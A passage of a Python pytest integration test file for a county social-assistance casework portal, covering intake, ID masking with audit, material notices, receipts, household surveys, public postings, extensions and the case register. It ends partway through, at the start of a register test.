"""Casework on PostgreSQL with the demo county 砀山县 (SPEC §6): each rule, and that a refused
request changes nothing.

The factories at the top (``case_at``, ``refused``, ``nothing_changes``, ``neighbour_county``…)
also serve ``test_cases_api.py`` and ``test_accountability.py``.
"""

from __future__ import annotations

import asyncio
from contextlib import asynccontextmanager
from datetime import date, datetime, timedelta
from io import BytesIO
from pathlib import Path
from zoneinfo import ZoneInfo

import chinese_calendar
import pytest
from openpyxl import load_workbook

from app import db
from app.absences import services as absences
from app.accounts.tables import User
from app.audit.services import recent_changes
from app.audit.tables import AuditRecord
from app.cases import casefile, posting, register, steps, survey
from app.cases.dates import recompute_county
from app.cases.intake import Application
from app.cases.register import CaseFilter, CaseView
from app.cases.tables import (
    AccountabilityRecord,
    Case,
    CaseEvent,
    Extension,
    Investigator,
    MaterialNotice,
    Objection,
    Offence,
    Posting,
    Receipt,
    Survey,
)
from app.domain.absence import Action as AbsenceAction
from app.domain.workdays import WorkCalendar
from app.errors import InvalidInput
from app.flows import casefile as flow_casefile
from app.flows import cover, urgency
from app.flows import intake as intake_flow
from app.flows.calendar import set_day
from app.flows.substitution import sweep
from app.notifications.tables import Notification
from app.rota import services as rota_services
from app.rota.posts import LineSpec
from app.setup import as_code
from app.tenancy.context import Forbidden, TenantContext
from app.tenancy.services import find_by_slug
from app.todo.services import todo_count, todo_of
from tests.helpers import OPERATOR, context_of, demo_county, portal, post_form, sign_in
from tests.integration.test_absences import leave

pytestmark = pytest.mark.usefixtures("clean_db", "redis", "office_time")

SLUG = "dangshan"
ZONE = ZoneInfo("Asia/Shanghai")  # the demo county's; "today" is the county's today
ONE_DAY = timedelta(days=1)
DEMO_FILE = Path(__file__).parents[2] / "tenants" / "dangshan.toml"

VALID_ID = "11010519491231002X"
MASKED_ID = "1101**********002X"
BAD_CHECKSUM_ID = "110105194912310021"  # right shape and birth date, wrong check character
FINDINGS = "家中三口人，住房为自建平房"
CONCLUSION = "经核实家庭人均收入低于标准，建议纳入"  # internal: never on a paper the applicant gets
PLACE = "城关镇东关村村务公开栏"
POSTING_OVER = timedelta(days=7)  # a posting that started this long ago ended yesterday


# --- dates ----------------------------------------------------------------------------------------


def today() -> date:
    return datetime.now(ZONE).date()


def nth_working_day_after(start: date, n: int) -> date:
    """Independent of the portal: day by day with ``chinese_calendar`` itself."""
    day, counted = start, 0
    while counted < n:
        day += ONE_DAY
        counted += chinese_calendar.is_workday(day)
    return day


def eve_of_a_holiday() -> date:
    """The last working day before a statutory holiday that started on a weekday at least a month
    ago (e.g. 30 September before National Day): a receipt date whose count crosses the holiday,
    recent enough for intake (which refuses receipts older than a year)."""
    day = today() - timedelta(days=30)
    while True:
        following = day + ONE_DAY
        on_holiday, name = chinese_calendar.get_holiday_detail(following)
        if chinese_calendar.is_workday(day) and on_holiday and name is not None and following.weekday() < 5:
            return day
        day -= ONE_DAY


# --- people and contexts ----------------------------------------------------------------------------


@pytest.fixture
async def people() -> dict[str, int]:
    return await demo_county()


async def acting_as(people: dict[str, int], username: str, slug: str = SLUG) -> TenantContext:
    return await context_of(slug, people[username])


async def neighbour_county() -> dict[str, int]:
    """萧县, a second county made from the demo file (same lines, A/B posts and usernames); username → id."""
    text = DEMO_FILE.read_text(encoding="utf-8")
    text = text.replace('slug = "dangshan"', 'slug = "xiaoxian"').replace('name = "砀山县"', 'name = "萧县"')
    await as_code.apply(as_code.parse(text), OPERATOR)
    tenant = await find_by_slug("xiaoxian")
    return {u["username"]: u["id"] for u in await User.select(User.id, User.username).where(User.tenant == tenant.id)}


async def sweep_now():
    """The substitution job, run now for the demo county."""
    return await sweep(await find_by_slug(SLUG))


# --- cases at a given state ---------------------------------------------------------------------------


def application(people: dict[str, int], **changes) -> Application:
    values = dict(
        line="urban_dibao",
        applicant_name="张三",
        applicant_id_number=VALID_ID,
        household_size=3,
        received_on=today(),
        first_receiver_id=people["houweili"],
    )
    values.update(changes)
    return Application(**values)


# The steps by the book to each state.
ROUTE = {
    "received": (),
    "accepted": ("accept",),
    "not_accepted": ("refuse",),
    "surveyed": ("accept", "survey", "sign"),
    "posted": ("accept", "survey", "sign", "post"),
    "approved": ("accept", "survey", "sign", "post", "approve"),
    "rejected": ("accept", "reject"),
    "closed": ("accept", "survey", "sign", "post", "approve", "close"),
}


async def take_step(people: dict[str, int], case_id: int, step: str, *, posting_starts_on: date | None = None):
    """One step as the people who take it: 王效雷 works the case, 侯伟丽 co-investigates, the leader decides."""
    clerk = await acting_as(people, "wangxiaolei")
    leader = await acting_as(people, "leader")
    match step:
        case "accept":
            return await steps.decide_intake(clerk, case_id, True)
        case "refuse":
            return await steps.decide_intake(clerk, case_id, False, "申请人户籍不在本县")
        case "survey":
            return await survey.record_survey(
                clerk,
                case_id,
                visited_on=today(),
                findings=FINDINGS,
                conclusion=CONCLUSION,
                investigators=[people["wangxiaolei"], people["houweili"]],
            )
        case "sign":
            return await survey.sign_survey(await acting_as(people, "houweili"), case_id)
        case "post":
            # Started a week ago by default: over today, so the case may be decided.
            starts_on = posting_starts_on or today() - POSTING_OVER
            return await posting.start_posting(clerk, case_id, starts_on, PLACE)
        case "approve":
            return await steps.decide(leader, case_id, True)
        case "reject":
            return await steps.decide(leader, case_id, False, "家庭收入高于标准")
        case "close":
            return await steps.close(clerk, case_id)
    raise AssertionError(f"no step {step}")


async def case_at(
    people: dict[str, int], status: str = "received", *, posting_starts_on: date | None = None, **changes
) -> CaseView:
    """A case of the demo county taken by the book to ``status``; ``changes`` go into the application.

    A case that goes through the posting was received a week ago unless said otherwise: a posting
    starts on or after receipt, and one that started a week ago is over today."""
    if "post" in ROUTE[status]:
        changes.setdefault("received_on", today() - POSTING_OVER)
    case = await intake_flow.intake(await acting_as(people, "wangxiaolei"), application(people, **changes))
    for step in ROUTE[status]:
        await take_step(people, case.id, step, posting_starts_on=posting_starts_on)
    return await register.get_case(await acting_as(people, "wangxiaolei"), case.id)


# --- a refused request changes nothing ------------------------------------------------------------------

TRACKED = (
    Case,
    CaseEvent,
    MaterialNotice,
    Receipt,
    Survey,
    Investigator,
    Posting,
    Objection,
    Extension,
    AccountabilityRecord,
    Offence,
    AuditRecord,
    Notification,
)


async def footprint() -> dict:
    """Everything a casework request could change."""
    return {
        "rows": {table.__name__: await table.count() for table in TRACKED},
        "cases": await Case.select(
            Case.id,
            Case.status,
            Case.due_on,
            Case.original_due_on,
            Case.extension_days,
            Case.acting_handler,
            Case.decided_at,
        ).order_by(Case.id),
        "signed": await Investigator.count().where(Investigator.signed_at.is_not_null()),
        "resolved": await Objection.count().where(Objection.resolved_at.is_not_null()),
    }


@asynccontextmanager
async def nothing_changes():
    before = await footprint()
    yield
    assert await footprint() == before


async def refused(action, error: type[Exception] = InvalidInput) -> Exception:
    """Awaits ``action``, which must raise ``error`` and leave every casework row as it was."""
    async with nothing_changes():
        with pytest.raises(error) as caught:
            await action
    return caught.value


def zh(exc: InvalidInput) -> str:
    return exc.in_language("zh")


async def events_of(case_id: int, kind: str | None = None) -> list[dict]:
    query = CaseEvent.select().where(CaseEvent.case == case_id)
    if kind:
        query = query.where(CaseEvent.kind == kind)
    return await query.order_by(CaseEvent.id)


# === intake ==========================================================================================


@pytest.mark.parametrize(
    ("line", "a_holder"),
    [
        ("urban_dibao", "wangxiaolei"),
        ("rural_dibao", "houweili"),
        ("medical", "zhuwenjun"),
        ("temporary", "wangxiaolei"),
    ],
)
async def test_a_new_case_goes_to_the_lines_a_holder_and_keeps_its_first_receiver(people, line, a_holder):
    clerk = await acting_as(people, "sunjing")  # holds no post: who enters it does not matter
    case = await intake_flow.intake(clerk, application(people, line=line, first_receiver_id=people["head"]))
    assert (case.handler_id, case.acting_handler_id, case.first_receiver_id, case.status) == (
        people[a_holder],
        people[a_holder],
        people["head"],
        "received",
    )
    [event] = await events_of(case.id)
    assert (event["kind"], event["actor"], event["from_status"], event["to_status"]) == (
        "received",
        people["sunjing"],
        "",
        "received",
    )
    assert "首问责任人：刘晓梅" in event["note"]
    audit = await AuditRecord.select().where(AuditRecord.action == "case.create").first()
    assert (audit["entity_id"], audit["actor"]) == (str(case.id), people["sunjing"])


async def test_while_the_a_holder_is_on_leave_a_new_case_is_acted_on_by_the_substitute(people):
    await leave(people, "wangxiaolei")
    await sweep_now()
    clerk = await acting_as(people, "houweili")
    urban = await intake_flow.intake(clerk, application(people))
    temporary = await intake_flow.intake(clerk, application(people, line="temporary"))
    medical = await intake_flow.intake(clerk, application(people, line="medical"))
    assert (urban.handler_id, urban.acting_handler_id) == (people["wangxiaolei"], people["houweili"])
    assert (temporary.handler_id, temporary.acting_handler_id) == (people["wangxiaolei"], people["zhuwenjun"])
    assert (medical.handler_id, medical.acting_handler_id) == (people["zhuwenjun"], people["zhuwenjun"])


@pytest.mark.parametrize(
    ("line", "separated", "working_days"),
    [
        ("urban_dibao", False, 10),
        ("urban_dibao", True, 15),  # 人户分离
        ("rural_dibao", True, 10),  # the line has no longer limit for it
        ("medical", False, 5),
        ("temporary", False, 10),
    ],
)
async def test_the_due_date_is_the_nth_working_day_strictly_after_receipt(people, line, separated, working_days):
    clerk = await acting_as(people, "wangxiaolei")
    eve = eve_of_a_holiday()
    for received_on in (eve, eve + ONE_DAY):  # a working day, then the holiday's first day
        case = await intake_flow.intake(
            clerk, application(people, line=line, separated_household=separated, received_on=received_on)
        )
        expected = nth_working_day_after(received_on, working_days)
        assert WorkCalendar().due_date(received_on, working_days).due_on == expected
        assert (case.working_days, case.original_due_on, case.due_on, case.provisional) == (
            working_days,
            expected,
            expected,
            False,
        )
        assert case.notice_due_on == nth_working_day_after(received_on, 3)
        assert case.separated_household is separated


async def test_the_id_number_is_masked_and_shown_in_full_only_to_those_working_the_case_with_an_audit(people):
    case = await case_at(people)  # handler 王效雷, first receiver 侯伟丽
    clerk = await acting_as(people, "wangxiaolei")
    assert case.id_masked == MASKED_ID and case.as_dict()["applicant_id_number"] == MASKED_ID
    assert [c.id_masked for c in (await register.list_cases(clerk, CaseFilter())).cases] == [MASKED_ID]
    for username in ("wangxiaolei", "houweili", "leader"):
        assert await steps.reveal_id_number(await acting_as(people, username), case.id) == VALID_ID
    looks = await AuditRecord.select(AuditRecord.actor, AuditRecord.entity_id).where(
        AuditRecord.action == "case.reveal_id"
    )
    assert sorted(r["actor"] for r in looks) == sorted(people[u] for u in ("wangxiaolei", "houweili", "leader"))
    assert {r["entity_id"] for r in looks} == {str(case.id)}
    await refused(steps.reveal_id_number(await acting_as(people, "zhuwenjun"), case.id), Forbidden)


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        # Far enough ahead that the tests' travel to office hours (a few days at most) is still before it.
        ({"received_on": today() + timedelta(days=60)}, "晚于今天，不能预先登记"),
        ({"received_on": today() - timedelta(days=400)}, "早于一年前"),
        ({"applicant_id_number": BAD_CHECKSUM_ID}, "校验位不对"),
        ({"applicant_id_number": "3413"}, "须为 18 位"),
        ({"line": "housing"}, "没有“housing”这个业务岗位"),
        ({"household_size": 0}, "家庭人口须为 1–30 人"),
        ({"applicant_name": "  "}, "请填写申请人姓名"),
    ],
)
async def test_a_bad_application_is_refused_and_nothing_is_saved(people, changes, message):
    clerk = await acting_as(people, "wangxiaolei")
    await case_at(people)  # something there already, which must stay as it is
    exc = await refused(intake_flow.intake(clerk, application(people, **changes)))
    assert message in zh(exc)


async def test_a_line_without_an_a_holder_takes_no_case(people):
    admin = await acting_as(people, "admin")
    await rota_services.create_line(admin, LineSpec(code="housing", name="住房救助", working_days=10))
    exc = await refused(intake_flow.intake(await acting_as(people, "head"), application(people, line="housing")))
    assert "住房救助尚未设A岗" in zh(exc)


async def test_a_first_receiver_of_another_county_is_refused(people):
    neighbour = await neighbour_county()
    clerk = await acting_as(people, "wangxiaolei")
    exc = await refused(intake_flow.intake(clerk, application(people, first_receiver_id=neighbour["houweili"])))
    assert "首问责任人须为本县在职工作人员" in zh(exc)


# === one-time notice (一次性告知) =========================================================================


async def test_a_one_time_notice_lists_checklist_items_and_free_text_within_three_working_days(people):
    case = await case_at(people)
    clerk = await acting_as(people, "wangxiaolei")
    notice_id = await steps.issue_notice(clerk, case.id, ["低保申请书", "  房产 证明 ", "低保申请书"])
    notice = await MaterialNotice.select().where(MaterialNotice.id == notice_id).output(load_json=True).first()
    assert (notice["items"], notice["reason"], notice["late"], notice["issued_by"]) == (
        ["低保申请书", "房产 证明"],
        "",
        False,
        people["wangxiaolei"],
    )
    assert case.notice_due_on == nth_working_day_after(case.received_on, 3)
    [event] = await events_of(case.id, "notice")
    assert event["note"] == "低保申请书；房产 证明"
    assert (await register.get_case(clerk, case.id)).status == "received"


async def test_a_notice_issued_after_its_three_working_days_is_marked_late(people):
    case = await case_at(people, received_on=today() - timedelta(days=20))
    assert case.notice_due_on < today()
    notice_id = await steps.issue_notice(await acting_as(people, "wangxiaolei"), case.id, ["户口簿复印件"])
    assert (await MaterialNotice.select(MaterialNotice.late).where(MaterialNotice.id == notice_id).first())["late"]


async def test_a_second_different_list_needs_a_reason(people):
    case = await case_at(people)
    clerk = await acting_as(people, "wangxiaolei")
    await steps.issue_notice(clerk, case.id, ["户口簿复印件"])
    exc = await refused(steps.issue_notice(clerk, case.id, ["户口簿复印件", "收入证明"]))
    assert "再次告知不同的材料须写明理由" in zh(exc)
    await steps.issue_notice(clerk, case.id, ["收入证明"], "申请人补交材料后发现收入证明为复印件")
    reasons = await MaterialNotice.select(MaterialNotice.reason).where(MaterialNotice.case == case.id)
    assert [r["reason"] for r in reasons] == ["", "申请人补交材料后发现收入证明为复印件"]


async def test_the_same_list_again_is_refused_even_with_a_reason(people):
    case = await case_at(people)
    clerk = await acting_as(people, "wangxiaolei")
    await steps.issue_notice(clerk, case.id, ["户口簿复印件", "收入证明"])
    exc = await refused(steps.issue_notice(clerk, case.id, ["收入证明", "户口簿复印件"], "再说一遍"))
    assert "相同的缺件清单已告知过" in zh(exc)


@pytest.mark.parametrize("status", ["accepted", "not_accepted"])
async def test_a_notice_is_only_issued_while_the_case_is_received(people, status):
    case = await case_at(people, status)
    exc = await refused(steps.issue_notice(await acting_as(people, "wangxiaolei"), case.id, ["户口簿复印件"]))
    assert "不能再发一次性告知" in zh(exc)


# === written receipts (书面凭证) ============================================================================


async def test_acceptances_and_refusals_get_receipts_numbered_per_county(people):
    clerk = await acting_as(people, "wangxiaolei")
    first, second, third = [await case_at(people) for _ in range(3)]
    await steps.decide_intake(clerk, first.id, True)
    await steps.decide_intake(clerk, second.id, False, "不属于本县户籍")
    await steps.decide_intake(clerk, third.id, True)
    receipts = await Receipt.select(Receipt.case, Receipt.number, Receipt.kind, Receipt.reason).order_by(Receipt.id)
    assert [(r["case"], r["number"], r["kind"], r["reason"]) for r in receipts] == [
        (first.id, 1, "accepted", ""),
        (second.id, 2, "not_accepted", "不属于本县户籍"),
        (third.id, 3, "accepted", ""),
    ]
    assert [e["note"] for e in await events_of(second.id, "receipt")] == ["书面凭证第 2 号"]

    neighbour = await neighbour_county()
    their_clerk = await acting_as(neighbour, "wangxiaolei", "xiaoxian")
    theirs = await intake_flow.intake(their_clerk, application(neighbour))
    await steps.decide_intake(their_clerk, theirs.id, True)
    assert (await Receipt.select(Receipt.number).where(Receipt.case == theirs.id).first())["number"] == 1


async def test_refusing_without_a_reason_is_refused(people):
    case = await case_at(people)
    exc = await refused(steps.decide_intake(await acting_as(people, "wangxiaolei"), case.id, False, "  "))
    assert "请填写不予受理的理由" in zh(exc)


async def test_acceptances_at_the_same_moment_get_distinct_consecutive_numbers(people):
    clerk = await acting_as(people, "wangxiaolei")
    cases = [await case_at(people) for _ in range(6)]
    await asyncio.gather(*(steps.decide_intake(clerk, case.id, True) for case in cases))
    assert sorted(r["number"] for r in await Receipt.select(Receipt.number)) == [1, 2, 3, 4, 5, 6]
    assert {r["case"] for r in await Receipt.select(Receipt.case)} == {case.id for case in cases}


async def test_an_acceptance_and_a_calendar_change_at_the_same_moment_both_go_through(people):
    case = await case_at(people)
    clerk, admin = await acting_as(people, "wangxiaolei"), await acting_as(people, "admin")
    calendar_locked = asyncio.Event()

    async def accept() -> CaseView:
        await calendar_locked.wait()
        return await steps.decide_intake(clerk, case.id, True)

    accepting = asyncio.create_task(accept())  # its own connection: started outside the transaction below
    async with db.transaction():
        await recompute_county(admin)  # takes the county's calendar lock, as every calendar change does
        calendar_locked.set()
        await asyncio.sleep(0.3)  # meanwhile the acceptance changes the case and numbers its receipt
        await set_day(admin, case.due_on, False, "县里临时休息")  # moves the case's due date
    accepted = await accepting
    assert accepted.status == "accepted"
    assert [r["number"] for r in await Receipt.select(Receipt.number)] == [1]
    assert (await register.get_case(clerk, case.id)).due_on > case.due_on


# === household survey (入户调查) ===========================================================================


@pytest.mark.parametrize("investigators", [["wangxiaolei"], ["wangxiaolei", "wangxiaolei"]])
async def test_a_survey_needs_two_different_investigators(people, investigators):
    case = await case_at(people, "accepted")
    exc = await refused(
        survey.record_survey(
            await acting_as(people, "wangxiaolei"),
            case.id,
            visited_on=today(),
            findings=FINDINGS,
            conclusion=CONCLUSION,
            investigators=[people[u] for u in investigators],
        )
    )
    assert "至少两名不同的工作人员" in zh(exc)


async def test_the_survey_is_done_when_every_investigator_has_signed(people):
    case = await case_at(people, "accepted")
    clerk = await acting_as(people, "wangxiaolei")
    await take_step(people, case.id, "survey")  # recorded by 王效雷 with 侯伟丽
    signatures = {
        r["person"]: r["signed_at"]
        for r in await Investigator.select(Investigator.person, Investigator.signed_at).order_by(Investigator.id)
    }
    assert set(signatures) == {people["wangxiaolei"], people["houweili"]}
    assert signatures[people["wangxiaolei"]] is not None  # the recorder signs as they record
    assert signatures[people["houweili"]] is None
    assert (await register.get_case(clerk, case.id)).status == "accepted"

    exc = await refused(survey.sign_survey(await acting_as(people, "zhuwenjun"), case.id))
    assert "您不是本次调查的调查人" in zh(exc)
    await refused(survey.sign_survey(clerk, case.id))  # signed already

    await take_step(people, case.id, "sign")  # 侯伟丽
    assert (await register.get_case(clerk, case.id)).status == "surveyed"
    assert await Investigator.count().where(Investigator.signed_at.is_null()) == 0
    [done] = await events_of(case.id, "survey_signed")
    assert done["actor"] == people["houweili"]


async def test_a_second_survey_record_is_refused(people):
    case = await case_at(people, "accepted")
    await take_step(people, case.id, "survey")
    exc = await refused(take_step(people, case.id, "survey"))
    assert "已有入户调查记录" in zh(exc)


# === public posting (公示) ===============================================================================


async def test_a_posting_runs_seven_days_and_the_case_cannot_be_approved_meanwhile(people):
    running = await case_at(people, "posted", posting_starts_on=today())
    posting = await Posting.select().where(Posting.case == running.id).first()
    assert (running.status, posting["starts_on"], posting["ends_on"], posting["place"]) == (
        "posted",
        today(),
        today() + timedelta(days=6),
        PLACE,
    )
    exc = await refused(take_step(people, running.id, "approve"))
    assert f"公示期至 {today() + timedelta(days=6)} 止" in zh(exc)


async def test_a_posting_that_is_over_lets_the_case_be_approved(people):
    over = await case_at(people, "posted", posting_starts_on=today() - timedelta(days=7))
    approved = await take_step(people, over.id, "approve")
    assert (approved.status, approved.decided_at is not None) == ("approved", True)


async def test_a_posting_that_has_not_started_yet_blocks_approval_too(people):
    upcoming = await case_at(people, "posted", posting_starts_on=today() + timedelta(days=2))
    exc = await refused(take_step(people, upcoming.id, "approve"))
    assert "起方可审批" in zh(exc)


@pytest.mark.parametrize("days_from_today", [-8, 8])
async def test_a_posting_is_entered_within_a_week_of_going_up(people, days_from_today):
    case = await case_at(people, "surveyed")
    exc = await refused(take_step(people, case.id, "post", posting_starts_on=today() + timedelta(days=days_from_today)))
    assert "公示开始日期须在今天前后 7 天以内" in zh(exc)


async def test_a_posting_does_not_start_before_the_application_was_received(people):
    case = await case_at(people, "surveyed", received_on=today() - timedelta(days=3))
    exc = await refused(take_step(people, case.id, "post", posting_starts_on=today() - timedelta(days=4)))
    assert "公示开始日期不能早于接收日期" in zh(exc)


async def test_an_open_objection_blocks_approval_until_it_is_resolved(people):
    case = await case_at(people, "posted")
    clerk = await acting_as(people, "wangxiaolei")
    objection_id = await posting.record_objection(clerk, case.id, today(), "东关村村民", "申请人家有小轿车一辆")
    exc = await refused(take_step(people, case.id, "approve"))
    assert "有未处理的异议" in zh(exc)
    await posting.resolve_objection(clerk, case.id, objection_id, "经核查车辆已于去年报废")
    await refused(posting.resolve_objection(clerk, case.id, objection_id, "再处理一次"))
    assert (await take_step(people, case.id, "approve")).status == "approved"
    assert [e["kind"] for e in await events_of(case.id)][-3:] == ["objection", "objection_resolved", "approve"]


@pytest.mark.parametrize("status", ["surveyed", "approved"])
async def test_objections_are_only_recorded_while_the_case_is_posted(people, status):
    case = await case_at(people, status)
    exc = await refused(
        posting.record_objection(await acting_as(people, "wangxiaolei"), case.id, today(), "", "有异议")
    )
    assert "只有公示中的案件可以登记异议" in zh(exc)


# === the pipeline ======================================================================================


@pytest.mark.parametrize(
    ("status", "step", "label"),
    [
        ("received", "approve", "已接收"),
        ("received", "survey", "已接收"),
        ("received", "close", "已接收"),
        ("accepted", "post", "已受理"),
        ("accepted", "accept", "已受理"),
        ("surveyed", "refuse", "已入户调查"),
        ("not_accepted", "approve", "不予受理"),
        ("approved", "reject", "已审批（同意）"),
        ("closed", "close", "已归档"),
    ],
)
async def test_a_step_out_of_order_is_refused_naming_the_state(people, status, step, label):
    case = await case_at(people, status, received_on=today() - POSTING_OVER)  # any step's dates would do
    exc = await refused(take_step(people, case.id, step))
    assert f"案件当前为“{label}”，不能" in zh(exc)


async def test_every_step_is_on_the_timeline_with_its_actor_and_states(people):
    case = await case_at(people, "closed")
    wang, hou, leader = people["wangxiaolei"], people["houweili"], people["leader"]
    assert [(e["kind"], e["actor"], e["from_status"], e["to_status"]) for e in await events_of(case.id)] == [
        ("received", wang, "", "received"),
        ("accept", wang, "received", "accepted"),
        ("receipt", wang, "", ""),
        ("survey", wang, "", ""),  # the record
        ("survey_signed", hou, "", ""),
        ("survey", hou, "accepted", "surveyed"),  # the last signature completes it
        ("post", wang, "surveyed", "posted"),
        ("approve", leader, "posted", "approved"),
        ("close", wang, "approved", "closed"),
    ]
    moves = (
        await AuditRecord.select(AuditRecord.action, AuditRecord.before, AuditRecord.after)
        .where(AuditRecord.action.is_in(["case.accept", "case.post", "case.approve", "case.close"]))
        .output(load_json=True)
        .order_by(AuditRecord.id)
    )
    assert [(m["action"], m["before"]["status"], m["after"]["status"]) for m in moves] == [
        ("case.accept", "received", "accepted"),
        ("case.post", "surveyed", "posted"),
        ("case.approve", "posted", "approved"),
        ("case.close", "approved", "closed"),
    ]


async def test_only_a_decider_approves(people):
    case = await case_at(people, "posted")
    await refused(steps.decide(await acting_as(people, "wangxiaolei"), case.id, True), Forbidden)
    assert (await steps.decide(await acting_as(people, "head"), case.id, True)).status == "approved"


async def test_rejecting_needs_a_reason(people):
    case = await case_at(people, "surveyed")
    leader = await acting_as(people, "leader")
    exc = await refused(steps.decide(leader, case.id, False, ""))
    assert "请填写审批不同意的理由" in zh(exc)
    rejected = await steps.decide(leader, case.id, False, "家庭收入高于标准")
    assert (rejected.status, rejected.decided_at is not None) == ("rejected", True)
    assert (await events_of(case.id, "reject"))[0]["note"] == "家庭收入高于标准"


@pytest.mark.parametrize("decided", ["not_accepted", "approved", "rejected"])
async def test_a_case_is_closed_after_its_decision(people, decided):
    case = await case_at(people, decided)
    closed = await take_step(people, case.id, "close")
    assert (closed.status, closed.open) == ("closed", False)


async def test_an_undecided_case_cannot_be_closed(people):
    case = await case_at(people, "posted")
    exc = await refused(take_step(people, case.id, "close"))
    assert "案件当前为“公示中”，不能“归档”" in zh(exc)


# === extensions (第十一条) ================================================================================


async def test_a_leader_extends_by_working_days_and_the_original_due_date_is_kept(people):
    case = await case_at(people, "accepted", received_on=eve_of_a_holiday())
    leader = await acting_as(people, "leader")
    first = await steps.extend(leader, case.id, 5, "需外省协查户籍")
    assert (first.original_due_on, first.due_on, first.extension_days) == (
        case.due_on,
        nth_working_day_after(case.due_on, 5),
        5,
    )
    assert first.as_dict()["working_days"] == 15
    second = await steps.extend(leader, case.id, 3, "协查回函未到")
    assert (second.original_due_on, second.due_on) == (case.due_on, nth_working_day_after(first.due_on, 3))
    rows = await Extension.select().where(Extension.case == case.id).order_by(Extension.id)
    assert [(r["working_days"], r["reason"], r["due_before"], r["due_after"], r["approved_by"]) for r in rows] == [
        (5, "需外省协查户籍", case.due_on, first.due_on, people["leader"]),
        (3, "协查回函未到", first.due_on, second.due_on, people["leader"]),
    ]
    audit = await AuditRecord.select().where(AuditRecord.action == "case.extend").output(load_json=True).first()
    assert audit["before"] == {"due_on": str(case.due_on)}


@pytest.mark.parametrize(
    ("working_days", "reason", "message"),
    [(0, "协查", "延期须为 1–30 个工作日"), (31, "协查", "延期须为 1–30 个工作日"), (5, "  ", "请填写延期理由")],
)
async def test_an_extension_needs_a_reason_and_1_to_30_working_days(people, working_days, reason, message):
    case = await case_at(people, "accepted")
    exc = await refused(steps.extend(await acting_as(people, "leader"), case.id, working_days, reason))
    assert message in zh(exc)


@pytest.mark.parametrize("username", ["wangxiaolei", "head", "admin"])
async def test_only_a_leader_extends(people, username):
    case = await case_at(people, "accepted")
    await refused(steps.extend(await acting_as(people, username), case.id, 5, "协查"), Forbidden)


async def test_a_decided_case_is_not_extended(people):
    case = await case_at(people, "approved")
    exc = await refused(steps.extend(await acting_as(people, "leader"), case.id, 5, "协查"))
    assert "案件已办结" in zh(exc)


# === the register ======================================================================================


async def test_the_register_filters_by_line_status_handler_due_window_and_overdue(any_db, people):
    fresh = await case_at(people)  # urban, due in 10 working days
    medical = await case_at(people, "accepted", line="medical")  # 朱文君, due in 5
    overdue = await case_at(people, "accepted", line="rural_dibao", received_on=today() - timedelta(days=40))
    decided = await case_at(people, "approved", received_on=today() - timedelta(days=50))  # late, but decided
    clerk = await acting_as(people, "wangxiaolei")

    async def ids(**chosen) -> list[int]:
        return [c.id for c in (await register.list_cases(clerk, CaseFilter(**chosen))).cases]

    assert await ids() == [decided.id, overdue.id, medical.id, fresh.id]  # soonest due first
    assert await ids(line="medical") == [medical.id]
    assert await ids(status="accepted") == [overdue.id, medical.id]
    assert await ids(handler_id=people["zhuwenjun"]) == [medical.id]
    assert await ids(handler_id=people["wangxiaolei"]) == [decided.id, fresh.id]
    assert await ids(overdue=True) == [overdue.id]
    assert await ids(open_only=True) == [overdue.id, medical.id, fresh.id]
    assert await ids(due_from=today()) == [medical.id, fresh.id]
    assert await ids(due_from=overdue.due_on, due_to=medical.due_on) == [overdue.id, medical.id]
    assert await ids(applicant="张") == [decided.id, overdue.id, medical.id, fresh.id]
    assert (await register.get_case(clerk, overdue.id)).overdue
    assert not (await register.get_case(clerk, decided.id)).overdue
    exc = await refused(register.list_cases(clerk, CaseFilter(status="lost")))
    assert "没有“lost”这个案件状态" in zh(exc)


async def test_the_register_comes_in_pages_of_fifty(people, settings):
    clerk = await acting_as(people, "wangxiaolei")
    made = [
        (await intake_flow.intake(clerk, application(people, applicant_name=f"申请人{n:02d}"))).id for n in range(51)
    ]
    async with portal(settings) as client:
        await sign_in(client, SLUG, "wangxiaolei")
        # The next page's link seeks from the last row shown; the filter rides along.
        first = (await client.get(f"/t/{SLUG}/cases", params={"open": "1"})).text
        last = await register.get_case(clerk, made[49])
        assert f'href="?page=2&amp;after={last.due_on}_{last.id}&amp;open=1"' in first
        second = (await client.get(f"/t/{SLUG}/cases?page=2&after={last.due_on}_{last.id}&open=1")).text
        assert f'/cases/{made[50]}"' in second and f'/cases/{made[49]}"' not in second
        assert 'href="?page=1&amp;open=1"' in second  # page 1 needs no place
    first = await register.list_cases(clerk, CaseFilter())
    assert (len(first.cases), first.total, first.page, first.pages) == (50, 51, 1, 2)
    assert [c.id for c in first.cases] == made[:50]  # same due date: in the order received
    last = await register.list_cases(clerk, CaseFilter(page=2))
    assert ([c.id for c in last.cases], last.page) == ([made[50]], 2)
    assert (await register.list_cases(clerk, CaseFilter(page=99))).page == 2
    small = await register.list_cases(clerk, CaseFilter(page=3), page_size=20)
    assert (len(small.cases), small.pages) == (11, 3)


async def test_the_register_escapes_what_was_typed(people, settings):
    """Names typed in are escaped in the register's rows (rendered once and kept: app.web.render)."""
    await User.update({User.name: "王<i>小</i>雷"}).where(User.id == people["wangxiaolei"])
    clerk = await acting_as(people, "wangxiaolei")
    await intake_flow.intake(clerk, application(people, applicant_name="<b>张&三</b>"))
    async with portal(settings) as client:
        await sign_in(client, SLUG, "wangxiaolei")
        shown = (await client.get(f"/t/{SLUG}/cases")).text
    assert "&lt;b&gt;张&amp;三&lt;/b&gt;" in shown and "王&lt;i&gt;小&lt;/i&gt;雷" in shown
    assert "<b>张" not in shown and "<i>小" not in shown


def _register_row(page: str, case_id: int) -> str:
    return page.split(f'<a href="/t/{SLUG}/cases/{case_id}">{case_id}</a>', 1)[1].split("</tr>", 1)[0]


async def test_a_kept_register_row_shows_each_change_of_its_case_at_once(people, settings):
    case = await case_at(people, "received")
    async with portal(settings) as client:
        await sign_in(client, SLUG, "wangxiaolei")
        received = _register_row((await client.get(f"/t/{SLUG}/cases")).text, case.id)
        kept = _register_row((await client.get(f"/t/{SLUG}/cases")).text, case.id)
        await take_step(people, case.id, "accept")
        accepted = _register_row((await client.get(f"/t/{SLUG}/cases")).text, case.id)
        await Case.update({Case.applicant_name: "李四"}).where(Case.id == case.id)
        renamed = _register_row((await client.get(f"/t/{SLUG}/cases")).text, case.id)
        await post_form(client, "/language", {"language": "en", "back": "/"})
        english = _register_row((await client.get(f"/t/{SLUG}/cases")).text, case.id)
    assert kept == received and "已接收" in received
    assert "已受理" in accepted and "已接收" not in accepted
    assert "李四" in renamed and "李四" not in accepted
    assert "Accepted" in english and "已受理" not in english


async def test_the_register_counts_only_ten_pages_past_the_one_asked_for(people):
